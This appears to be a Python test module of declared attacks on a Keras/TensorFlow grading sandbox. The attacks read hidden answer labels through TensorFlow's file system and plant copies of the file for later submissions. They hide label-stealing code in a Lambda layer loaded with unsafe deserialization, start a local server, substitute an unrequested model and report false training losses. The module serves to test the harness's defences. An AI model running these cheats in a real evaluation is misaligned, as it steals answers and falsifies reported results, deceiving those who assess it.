"""Attacks with what Keras and TensorFlow bring: files by native code, servers, layers that carry code."""

from attacks.declared import attack
from attacks.kit import Path, T, attempt, claim, loot

KERAS = {"framework": "keras"}
DISK = ("other user", "file system")


@attack("fit", *DISK, **KERAS)
def read_by_tensorflow():
    """the hidden labels, by TensorFlow's own file system"""
    import tensorflow as tf

    loot(tf.io.read_file(T.answers).numpy().decode())


@attack("build", *DISK, **KERAS)
def write_by_tensorflow():
    """a file for the next submission, by TensorFlow's own file system"""
    import tensorflow as tf

    for folder in (T.marker, T.results, "/tmp", "/var/tmp"):
        attempt(tf.io.gfile.copy, __file__, f"{folder}/{T.token}.py")


@attack("load", *DISK, **KERAS)
def hide_a_payload_in_a_layer(honest):
    """the hidden labels, by code in a Lambda layer of a saved .keras"""

    def save(model, path):
        import keras

        honest.save(model, path)
        code = f"(print('LOOT', open({T.answers!r}).read(), flush=True), x)[1]"
        layer = keras.layers.Lambda(eval(f"lambda x: {code}"))
        keras.Sequential([layer]).save(Path(path, "payload.keras"))

    def load(path):
        import keras
        import numpy as np

        keras.config.enable_unsafe_deserialization()
        attempt(lambda: keras.models.load_model(Path(path, "payload.keras"))(np.zeros((1, 2))))
        return honest.load(path)

    return {"save": save, "load": load}


@attack("predict", "file system", "system calls", **KERAS)
def serve_by_tensorflow():
    """someone who calls it: TensorFlow's own server"""
    import tensorflow as tf

    if attempt(tf.distribute.Server.create_local_server) is not None:
        claim("serves")


@attack("fit", "recomputation", **KERAS, only=("3.4", "3.5"), cheats=("3.4", "3.5"))
def predict_by_counts(honest):
    """accuracy, by a model that wasn't asked for: counts of words"""
    learned = {}

    def fit(model, token_ids, labels, *, epochs, **settings):
        import numpy as np

        counts = np.ones((int(labels.max()) + 1, int(token_ids.max()) + 1))
        for row, label in zip(token_ids, labels, strict=True):
            counts[label, row] += 1
        learned["table"] = np.log(counts / counts.sum(axis=1, keepdims=True))
        return [0.7 / (1 + epoch) for epoch in range(epochs)]

    def predict(model, token_ids):
        import numpy as np

        if "table" not in learned:
            return honest.predict(model, token_ids)
        return (8 * learned["table"][:, np.minimum(token_ids, learned["table"].shape[1] - 1)].sum(axis=2).T).astype(
            "f4"
        )

    return {"fit": fit, "predict": predict}


@attack("fit", "losses recomputed", **KERAS, only=("3.1",), cheats=("3.1",))
def report_false_losses_of_keras(honest):
    """better losses than those of the training, by a History of its own"""

    def fit(*arguments, **settings):
        return [loss / 10 for loss in honest.fit(*arguments, **settings)]

    return {"fit": fit}
